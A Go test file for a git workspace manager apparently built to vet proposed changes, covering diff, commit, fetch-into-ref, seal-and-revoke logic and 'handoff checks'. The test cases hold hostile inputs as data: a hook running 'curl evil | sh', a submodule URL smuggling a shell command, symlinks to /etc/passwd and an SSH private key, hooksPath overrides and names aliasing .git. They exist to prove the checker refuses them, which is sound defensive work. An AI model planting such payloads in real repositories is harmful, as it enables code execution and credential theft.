//go:build unix

package workspace

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/sluicehq/sluice/core/errcode"
)

func TestDiffCommitFetchInto(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	m := newManager(t, false)
	w, repo := createRepoWS(t, m)
	tree := m.treeDir(w.ID)

	if _, err := m.EditFile(ctx, w.ID, EditRequest{Path: "README.md", Old: "hello", New: "hello, workspace"}); err != nil {
		t.Fatal(err)
	}
	if _, err := m.WriteFile(ctx, w.ID, "docs/new.md", []byte("untracked\n"), 0); err != nil {
		t.Fatal(err)
	}
	os.Remove(filepath.Join(tree, "src", "util.go"))

	d, err := m.Diff(ctx, w.ID, DiffOptions{})
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, f := range d.Files {
		got[f.Path] = f.Status
	}
	if got["README.md"] != "M" || got["docs/new.md"] != "A" || got["src/util.go"] != "D" || len(got) != 3 {
		t.Fatalf("Diff files: %+v", d.Files)
	}
	if !strings.Contains(d.Patch, "+hello, workspace") || !strings.Contains(d.Patch, "+untracked") || d.Truncated {
		t.Fatalf("Diff patch:\n%s", d.Patch)
	}
	// The repository's index is untouched by Diff.
	out, _ := m.git.run(ctx, gitCall{gitDir: m.gitDir(w.ID), workTree: tree, args: []string{"diff", "--cached", "--name-only"}})
	if len(out) != 0 {
		t.Fatalf("Diff staged changes: %q", out)
	}
	small, err := m.Diff(ctx, w.ID, DiffOptions{MaxBytes: 100})
	if err != nil || !small.Truncated || len(small.Patch) > 100 || !strings.HasSuffix(small.Patch, "\n") || len(small.Files) != 3 {
		t.Fatalf("bounded diff: %+v %v", small, err)
	}

	cr, err := m.Commit(ctx, w.ID, "Workspace edits")
	if err != nil || !cr.Changed || len(cr.Files) != 3 {
		t.Fatalf("Commit: %+v %v", cr, err)
	}
	author, _ := m.git.run(ctx, gitCall{gitDir: m.gitDir(w.ID), args: []string{"log", "-1", "--format=%an <%ae>|%cn <%ce>|%s"}})
	if strings.TrimSpace(string(author)) != "Sluice workspace <workspace@sluice.invalid>|Sluice workspace <workspace@sluice.invalid>|Workspace edits" {
		t.Fatalf("commit identity: %q", author)
	}
	again, err := m.Commit(ctx, w.ID, "nothing")
	if err != nil || again.Changed || again.Commit != cr.Commit {
		t.Fatalf("empty commit: %+v %v", again, err)
	}
	// After committing, the diff against the base is unchanged.
	d2, _ := m.Diff(ctx, w.ID, DiffOptions{})
	if len(d2.Files) != 3 {
		t.Fatalf("diff after commit: %+v", d2.Files)
	}

	fs, err := m.HandoffChecks(ctx, w.ID, "", "")
	if err != nil || len(fs) != 0 {
		t.Fatalf("clean change has findings: %+v %v", fs, err)
	}

	ref := "refs/sluice/proposals/p1"
	sha, err := m.FetchInto(ctx, w.ID, repo, ref)
	if err != nil || sha != cr.Commit {
		t.Fatalf("FetchInto: %s %v", sha, err)
	}
	if got := git(t, repo, "rev-parse", ref); got != cr.Commit {
		t.Fatalf("person's ref = %s", got)
	}
	if st := git(t, repo, "status", "--porcelain"); st != "" {
		t.Fatalf("the person's working tree changed: %q", st)
	}
	if _, err := m.FetchInto(ctx, w.ID, repo, "refs/heads/main"); !errcode.IsCode(err, errcode.InvalidArgument) {
		t.Fatalf("fetch into a branch: %v", err)
	}
	if _, err := m.FetchInto(ctx, w.ID, repo, "refs/sluice/../heads/main"); !errcode.IsCode(err, errcode.InvalidArgument) {
		t.Fatalf("fetch into a dotted ref: %v", err)
	}
}

func TestHandoffChecks_Findings(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	m := newManager(t, false)
	cases := []struct {
		name     string
		change   func(tree string)
		rule     string
		severity string
	}{
		{"gitattributes filter", func(tree string) {
			writeFile(t, filepath.Join(tree, ".gitattributes"), "*.bin filter=evil diff=golang\n")
		}, "gitattributes-filter", SeverityRefuse},
		{"gitattributes custom diff driver", func(tree string) {
			writeFile(t, filepath.Join(tree, ".gitattributes"), "*.x diff=custom\n")
		}, "gitattributes-driver", SeverityFlag},
		{"escaping symlink", func(tree string) {
			os.Symlink("../../../../etc/passwd", filepath.Join(tree, "src", "link"))
		}, "symlink-escape", SeverityRefuse},
		{"absolute symlink", func(tree string) {
			os.Symlink("/home/person/.ssh/id_ed25519", filepath.Join(tree, "key"))
		}, "symlink-escape", SeverityRefuse},
		{"inside symlink", func(tree string) {
			os.Symlink("src/main.go", filepath.Join(tree, "main-link"))
		}, "symlink", SeverityFlag},
		{"husky hook", func(tree string) {
			writeFile(t, filepath.Join(tree, ".husky", "pre-commit"), "curl evil | sh\n")
		}, "hooks", SeverityRefuse},
		{"githooks", func(tree string) {
			writeFile(t, filepath.Join(tree, ".githooks", "post-merge"), "echo\n")
		}, "hooks", SeverityRefuse},
		{"hooksPath in a committed config", func(tree string) {
			writeFile(t, filepath.Join(tree, "tools", "project.gitconfig"), "[core]\n\thooksPath = .githooks-alt\n")
		}, "hooks-path", SeverityRefuse},
		{"submodule ext url", func(tree string) {
			writeFile(t, filepath.Join(tree, ".gitmodules"), "[submodule \"x\"]\n\tpath = x\n\turl = ext::sh -c touch% /tmp/pwned\n")
		}, "gitmodules-url", SeverityRefuse},
		{"submodule new url", func(tree string) {
			writeFile(t, filepath.Join(tree, ".gitmodules"), "[submodule \"x\"]\n\tpath = x\n\turl = https://example.com/x.git\n")
		}, "gitmodules-url", SeverityFlag},
		{"newly executable", func(tree string) {
			os.Chmod(filepath.Join(tree, "src", "main.go"), 0o755)
		}, "executable", SeverityFlag},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			w, _ := createRepoWS(t, m)
			tc.change(m.treeDir(w.ID))
			if _, err := m.Commit(ctx, w.ID, tc.name); err != nil {
				t.Fatal(err)
			}
			fs, err := m.HandoffChecks(ctx, w.ID, "", "")
			if err != nil {
				t.Fatal(err)
			}
			found := false
			for _, f := range fs {
				if f.Rule == tc.rule && f.Severity == tc.severity {
					found = true
				}
				if f.Severity == SeverityRefuse && tc.severity != SeverityRefuse {
					t.Errorf("unexpected refusal: %+v", f)
				}
			}
			if !found {
				t.Fatalf("want %s/%s, got %+v", tc.rule, tc.severity, fs)
			}
			if Refused(fs) != (tc.severity == SeverityRefuse) {
				t.Fatalf("Refused = %v for %+v", Refused(fs), fs)
			}
		})
	}
}

func TestSeal_RefusesThenSealsAndRevokes(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	m := newManager(t, false)
	w, _ := createRepoWS(t, m)
	if err := m.Grant(w.ID, "API_TOKEN", "tok-1234567890"); err != nil {
		t.Fatal(err)
	}
	if err := m.GrantEgress(w.ID, []string{"proxy.golang.org"}); err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(m.treeDir(w.ID), ".gitattributes"), "* filter=lfs\n")
	res, err := m.Seal(ctx, w.ID, "with a filter")
	if err != nil || !res.Refused {
		t.Fatalf("Seal with a filter: %+v %v", res, err)
	}
	if got, _ := m.Get(w.ID); got.State != StateReady || len(got.Secrets) != 1 {
		t.Fatalf("a refused seal closed the workspace: %+v", got)
	}
	// Fix it: a later commit removes the filter; base..head is clean.
	if _, err := m.WriteFile(ctx, w.ID, ".gitattributes", []byte("*.go text\n"), 0); err != nil {
		t.Fatal(err)
	}
	res, err = m.Seal(ctx, w.ID, "fixed")
	if err != nil || res.Refused || !res.Changed {
		t.Fatalf("Seal: %+v %v", res, err)
	}
	got, _ := m.Get(w.ID)
	if got.State != StateSealed || len(got.Secrets) != 0 || len(got.Egress) != 0 {
		t.Fatalf("after seal: %+v", got)
	}
	if _, err := os.Stat(filepath.Join(m.dir(w.ID), secretsFile)); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("secrets survived the seal: %v", err)
	}
	if _, err := m.WriteFile(ctx, w.ID, "x", []byte("x"), 0); !errors.Is(err, ErrNotReady) {
		t.Fatalf("write after seal: %v", err)
	}
	if _, err := m.ReadFile(ctx, w.ID, "README.md", ReadOptions{}); err != nil {
		t.Fatalf("read after seal: %v", err)
	}
}

// A file rewritten with the same size within the index's last second
// looks unchanged by its stat data; git finds the change only by
// comparing the file's time with the index's. Diff works on a copy of
// the index, which must keep that time, or the change is left out of
// the diff that becomes the proposal.
func TestDiff_RacilyCleanFileIsIncluded(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	m := newManager(t, false)
	w, _ := createRepoWS(t, m)
	gitDir, tree := m.gitDir(w.ID), m.treeDir(w.ID)
	run := func(args ...string) {
		t.Helper()
		if _, err := m.git.run(ctx, gitCall{gitDir: gitDir, workTree: tree, args: args}); err != nil {
			t.Fatalf("git %v: %v", args, err)
		}
	}
	run("config", "core.trustctime", "false")
	past := time.Now().Add(-time.Hour).Truncate(time.Second)
	readme := filepath.Join(tree, "README.md")
	if err := os.Chtimes(readme, past, past); err != nil {
		t.Fatal(err)
	}
	run("update-index", "--refresh")
	if err := os.Chtimes(filepath.Join(gitDir, "index"), past, past); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(readme, []byte("HELLO\n"), 0o644); err != nil { // the same size
		t.Fatal(err)
	}
	if err := os.Chtimes(readme, past, past); err != nil {
		t.Fatal(err)
	}
	d, err := m.Diff(ctx, w.ID, DiffOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if len(d.Files) != 1 || d.Files[0].Path != "README.md" || !strings.Contains(d.Patch, "+HELLO") {
		t.Fatalf("Diff left out the rewritten file: %+v\n%s", d.Files, d.Patch)
	}
}

// TestHandoffChecks_GitMetadataNames: a commit whose tree holds a name
// that git on another file system takes for .git (here an NTFS stream
// name, which git add refuses but a hand-made tree can carry) is refused
// by the same rule the file tools and proposals use.
func TestHandoffChecks_GitMetadataNames(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	m := newManager(t, false)
	for _, name := range []string{".git::$INDEX_ALLOCATION", ".GIT.", "git~1"} {
		t.Run(name, func(t *testing.T) {
			w, _ := createRepoWS(t, m)
			gitDir := m.gitDir(w.ID)
			run := func(stdin string, args ...string) string {
				t.Helper()
				out, err := m.git.run(ctx, gitCall{gitDir: gitDir, stdin: strings.NewReader(stdin), args: args})
				if err != nil {
					t.Fatalf("git %v: %v", args, err)
				}
				return strings.TrimSpace(string(out))
			}
			blob := run("[core]\n\thooksPath = /tmp/x\n", "hash-object", "-w", "--stdin")
			inner := run("100644 blob "+blob+"\tconfig\n", "mktree")
			base := run("", "rev-parse", w.Base+"^{tree}")
			entries := run("", "ls-tree", base)
			tree := run(entries+"\n040000 tree "+inner+"\t"+name+"\n", "mktree", "--missing")
			head := run("", "commit-tree", "-p", w.Base, "-m", "x", tree)
			fs, err := m.HandoffChecks(ctx, w.ID, w.Base, head)
			if err != nil {
				t.Fatal(err)
			}
			found := false
			for _, f := range fs {
				if f.Rule == "git-path" && f.Severity == SeverityRefuse {
					found = true
				}
			}
			if !found || !Refused(fs) {
				t.Fatalf("want a git-path refusal, got %+v", fs)
			}
		})
	}
}
